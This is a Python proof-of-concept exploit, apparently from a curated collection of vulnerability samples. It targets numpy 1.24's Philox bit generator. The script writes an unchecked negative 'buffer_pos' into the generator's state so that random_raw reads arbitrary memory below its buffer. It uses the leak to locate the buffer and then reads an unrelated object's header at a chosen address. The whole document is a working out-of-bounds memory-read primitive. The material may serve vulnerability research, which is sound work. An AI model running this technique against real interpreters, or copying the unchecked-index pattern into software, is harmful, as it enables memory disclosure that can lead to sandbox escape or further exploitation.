# source: numpy 1.24 numpy/random/_philox.pyx Philox.state setter (buffer_pos, a C int, stored unchecked) and philox.h philox_next64 (buffer[buffer_pos++] while buffer_pos < 4)
# family: unchecked index in a bit generator's state (Philox buffer_pos aimed at a chosen address)
# goal: read memory at a chosen address (any 8-byte-aligned address below the generator's buffer, up to 16 GB down; an index >= 4 regenerates instead of reading): locate Philox's buffer from its own header, then read the header of an unrelated object (an object() at the address repr() gives: its ob_type read back equals the address of the type object)
import numpy as np

M64 = 0xFFFFFFFFFFFFFFFF


def type_address(cls):
    h = hash(cls) & M64
    return ((h << 4) | (h >> 60)) & M64


ph = np.random.Philox(0)
obj_addr = int(repr(ph).split(" at ")[1].rstrip(">"), 16)


def read_at_index(idx, n):
    s = ph.state
    s["buffer_pos"] = idx
    ph.state = s
    return [int(v) for v in ph.random_raw(n)]


q = read_at_index(-64, 64)
tp = type_address(np.random.Philox)
i = q.index(tp)
buf_addr = obj_addr + 8 + 8 * (64 - i)
print("Philox object", hex(obj_addr), "its buffer at", hex(buf_addr))


def read_addr(addr, n):
    return read_at_index((addr - buf_addr) // 8, n)


pool = [object() for _ in range(2000)]
addrs = [int(repr(o).split(" at ")[1].rstrip(">"), 16) for o in pool]
va = max(a for a in addrs if a < buf_addr)
w = read_addr(va, 2)
print("object() at", hex(va), ": ob_refcnt =", w[0], ", ob_type =", hex(w[1]), "== address of type object:", w[1] == type_address(object))
